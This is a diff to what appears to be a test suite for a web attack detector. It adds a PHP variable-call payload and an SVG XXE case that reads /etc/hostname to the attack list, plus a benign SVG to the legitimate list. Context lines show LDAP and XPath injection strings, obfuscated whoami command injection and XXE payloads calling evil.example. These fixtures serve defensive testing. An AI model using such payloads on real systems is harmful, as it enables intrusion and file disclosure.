@@ -207,6 +207,7 @@ ATTACKS = {
     "ldap_password": "jane*)((|userPassword=*)",
     "ldap_not_all": "jane)(!(&(1=0)))",
     "xpath_length": "string-length(name(/*[1]))=5",
+    "php_call_of_variable": "$_(3)",
     "code_information": "phpinfo()",
     "code_information_statement": "phpinfo();",
     "command_quoted_parts": ";w'h'o'am'i",
@@ -753,6 +754,7 @@ def attacks():
         ("external_after_comment", "text/xml", b'<!-- <!DOCTYPE r SYSTEM "http://www.w3.org/x"> --><!DOCTYPE r SYSTEM "ftp://evil.example/x"><r/>'),
         ("external_file", "text/xml", b"<!DOCTYPE r SYSTEM 'file:///etc/hostname'><r/>"),
         ("external_soap", "application/soap+xml", b'<!DOCTYPE r\n SYSTEM\n "https://evil.example/x.dtd"><r/>'),
+        ("drawing", "image/svg+xml", b'<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>'),
         ("external_form", "application/x-www-form-urlencoded", urlencode({"xml": '<!DOCTYPE r SYSTEM "http://evil.example/x"><r/>'}).encode()),
         ("external_json", "application/json", json.dumps({"svg": '<!DOCTYPE r SYSTEM "http://evil.example/x"><r/>'}).encode()),
     ):
@@ -795,6 +797,7 @@ def legitimate():
         ("xhtml", "application/xml", b'<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head></html>'),
         ("property_list", "text/xml", b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict/></plist>'),
         ("docbook", "application/xml", b"<!-- made by hand -->\n<!DOCTYPE article PUBLIC '-//OASIS//DTD DocBook XML V4.5//EN' 'http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd'><article/>"),
+        ("drawing", "image/svg+xml", b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"><path d="M1 1"/></svg>'),
         ("local_type", "application/xml", b'<!DOCTYPE note SYSTEM "note.dtd"><note>x</note>'),
         ("html5", "text/plain", b'<!doctype html><p>See "https://example.org/"</p>'),
         ("page_member", "application/json", json.dumps({"html": '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html><body><p>Hello</p></body></html>'}).encode()),
